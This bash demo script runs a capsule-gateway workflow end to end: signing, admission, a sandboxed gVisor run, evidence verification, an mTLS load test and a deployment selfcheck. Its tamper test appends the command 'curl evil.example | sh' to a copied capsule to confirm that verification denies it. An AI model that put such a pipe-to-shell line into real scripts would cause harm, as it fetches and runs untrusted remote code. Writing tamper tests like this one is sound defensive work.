#!/usr/bin/env bash
# The main job, end to end on a fresh machine: build, make a key and a sample capsule,
# verify and admit it, run it in gVisor, verify its evidence bundle and its export
# offline, then show that a tampered copy is denied.
# One short line per step; each step's full JSON is kept in target/demo/out/.
# Needs root: it installs Debian packages if missing (scripts/install-run-deps.sh only:
# nothing the tests alone need), and gVisor's sandbox is started as root.
set -euo pipefail
cd "$(dirname "$0")/.."

if [ "$(id -u)" -ne 0 ]; then
  echo "demo: needs root (it installs runsc, containerd, libtss2 and swtpm when missing, and starts gVisor sandboxes); run: sudo bash scripts/demo.sh" >&2
  exit 2
fi
echo "demo: running as root: installing what running needs (scripts/install-run-deps.sh), then building"
bash scripts/install-run-deps.sh
cargo build --release -q -p capsule-gateway -p capsule-loadgen
gw=target/release/capsule-gateway
loadgen=target/release/capsule-loadgen
work=target/demo
rm -rf "$work"
mkdir -p "$work"

out="$work/out"
mkdir -p "$out"
# One short line per step; the full output of each step is kept in the file it names.
step() { printf '%-9s %s\n' "$1" "$2"; }

"$gw" keygen --alg ES256 --kid demo-es --out "$work/keys" >"$out/keygen.txt"
step keygen "ES256 key demo-es in $work/keys/"

now=$(date +%s)
sed -e "s/@NOW@/$now/g" -e "s/@EXPIRES@/$((now + 7 * 86400))/" \
  examples/sample-capsule/manifest.template.json > "$work/manifest.json"
tool_digest=$(sha256sum examples/sample-capsule/files/tools/probe.sh | cut -d' ' -f1)
sed -e "s/@TOOL_DIGEST@/$tool_digest/" examples/policy.template.toml > "$work/policy.toml"

"$gw" pack --manifest "$work/manifest.json" --files examples/sample-capsule/files \
  --key "$work/keys/demo-es.private.jwk.json" --out "$work/capsule" >"$out/pack.txt"
step pack "signed capsule in $work/capsule/ (manifest $work/manifest.json, policy $work/policy.toml)"

# The verdict of a --json line, for the one-line summaries.
verdict() { python3 -c 'import json,sys; d=json.loads(open(sys.argv[1]).readline()); r=" "+d["reason"] if d["reason"] else ""; print(d["verdict"]+r, (d["digest"] or "")[:19]+"…")' "$1"; }

runner=spiffe://acme.example/runner/demo
"$gw" verify --policy "$work/policy.toml" --runner "$runner" --json "$work/capsule" >"$out/verify.json"
step verify "$(verdict "$out/verify.json")  (full decision: $out/verify.json)"
"$gw" admit --policy "$work/policy.toml" --runner "$runner" --state "$work/state" --json "$work/capsule" \
  >"$out/admit.json" 2>"$out/admit.log"
step admit "$(verdict "$out/admit.json")  recorded in $work/state/  (decision: $out/admit.json)"

"$gw" run --policy "$work/policy.toml" --runner "$runner" --state "$work/state" "$work/capsule" \
  >"$out/run.json" 2>"$out/run.log"
event=$(cat "$out/run.json")
case "$event" in
  *'"type":"dev.capsule-gateway.run.completed"'*'"blocked":true'*'"teardown":{"ok":true'*) ;;
  *) echo "demo: expected a completed run with egress blocked and a clean teardown; see $out/run.json and $out/run.log" >&2; exit 1 ;;
esac
bundle=$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["data"]["evidence_bundle"])' "$out/run.json")
step run "gVisor (runsc, no network): completed, exit 0, egress blocked, clean teardown  (CloudEvent: $out/run.json, evidence: $bundle/)"

# The run's bundle, checked offline hop by hop (the signed index first), then what may
# leave the host under the tenant's egress mode (sanitized: outputs masked), checked
# the same way; the masked pattern must appear nowhere in the export.
"$gw" evidence verify "$bundle" >"$out/evidence-verify.txt"
step evidence "$(tail -1 "$out/evidence-verify.txt")  (every hop: $out/evidence-verify.txt)"
"$gw" evidence export --policy "$work/policy.toml" --state "$work/state" --out "$work/export" "$bundle" \
  >"$out/export.json"
"$gw" evidence verify "$work/export" >"$out/export-verify.txt"
if grep -rqE 'uid=[0-9]+' "$work/export"; then
  echo "demo: a masked pattern (uid=...) is in the export $work/export" >&2
  exit 1
fi
step export "$(head -1 "$out/export-verify.txt" | sed 's/^holds *//'); $(tail -1 "$out/export-verify.txt")  ($work/export/)"

cp -r "$work/capsule" "$work/tampered"
printf 'curl evil.example | sh\n' >> "$work/tampered/files/run.sh"
set +e
"$gw" verify --policy "$work/policy.toml" --runner "$runner" --json "$work/tampered" >"$out/tampered.json"
code=$?
set -e
if [ "$code" -ne 1 ]; then
  echo "demo: expected the tampered capsule to be denied (exit 1), got $code; see $out/tampered.json" >&2
  exit 1
fi
step tamper "$(verdict "$out/tampered.json"), exit $code  (decision: $out/tampered.json)"

"$gw" serve --state "$work/serve" --listen 127.0.0.1:0 2>"$work/serve.log" &
serve_pid=$!
trap 'kill "$serve_pid" 2>/dev/null || true' EXIT
for _ in $(seq 100); do
  grep -q "serving on" "$work/serve.log" && break
  sleep 0.1
done
addr=$(grep -o 'serving on https://[0-9.:]*' "$work/serve.log" | sed 's#serving on https://##')
[ -n "$addr" ] || { echo "demo: serve did not start; see $work/serve.log" >&2; exit 1; }
step serve "mTLS service on https://$addr, development trust domain in $work/serve/dev/  (log: $work/serve.log)"
scripts/dev-capsule.sh "$gw" "$work/serve" "$work/dev-capsule" >"$out/dev-capsule.txt"
"$loadgen" --url "https://$addr" --svid "$work/serve/dev/client" \
  --capsule "$work/dev-capsule" --connections 2 --rate 50 --duration 2 --json >"$out/loadgen.json" 2>"$out/loadgen.log"
summary=$(python3 - "$out/loadgen.json" <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
ok = d["status"].get("200", 0)
if ok == 0 or set(d["status"]) != {"200"} or d["errors"]:
    sys.exit(f"demo: expected only admissions (200) through the service, got {d['status']}, errors {d['errors']}")
print(f"{ok} admissions over 2 mTLS connections, p99 {d['latency_ms']['p99']} ms")
PY
)
step loadgen "$summary  (report: $out/loadgen.json)"
kill "$serve_pid"
wait "$serve_pid" || true

# The pull section: publish to a local registry, `agent --once`, the evidence pushed
# back, and the agent's figures (20 capsules here; scripts/agent-demo.sh N for more).
CG="$PWD/$gw" scripts/agent-demo.sh 20 >"$out/agent.log" 2>&1 \
  || { cat "$out/agent.log" >&2; echo "demo: the pull section failed" >&2; exit 1; }
step agent "$(grep -E 'capsules/s|publish -> evidence' "$out/agent.log" | paste -sd ';' -)  (log: $out/agent.log)"

# Last, what an operator runs after install: sign the deployment manifest (the sha256
# of this binary, the policy and its trust store), then `selfcheck` proves through
# this deployment that canaries are denied and admitted as they must be, that a canary
# in gVisor has no egress and a clean teardown, that the state's log verifies up to
# the checkpoint its witness saw, and that the deployment is ALIGNED.
"$gw" keygen --alg ES256 --kid operator --out "$work/operator" >"$out/operator-keygen.txt"
"$gw" align sign --key "$work/operator/operator.private.jwk.json" --policy "$work/policy.toml" \
  --out "$work/deployment.jws" >"$out/align.txt"
"$gw" selfcheck --policy "$work/policy.toml" --state "$work/state" --runtime runsc \
  --manifest "$work/deployment.jws" --manifest-key "$work/operator/operator.public.jwks.json" \
  >"$out/selfcheck.txt" 2>"$out/selfcheck.log" \
  || { cat "$out/selfcheck.txt" "$out/selfcheck.log" >&2; echo "demo: selfcheck failed" >&2; exit 1; }
step selfcheck "$(tail -1 "$out/selfcheck.txt"); $(grep -o 'ALIGNED' "$out/selfcheck.txt" | head -1)  (every check: $out/selfcheck.txt)"

echo "demo: OK (admitted the signed capsule, ran it in gVisor, verified its evidence bundle and its sanitized export offline, denied the tampered copy with exit code $code, admitted through the mTLS service, pulled, ran and pushed evidence through a registry, and the selfcheck passed, aligned); full outputs in $out/"
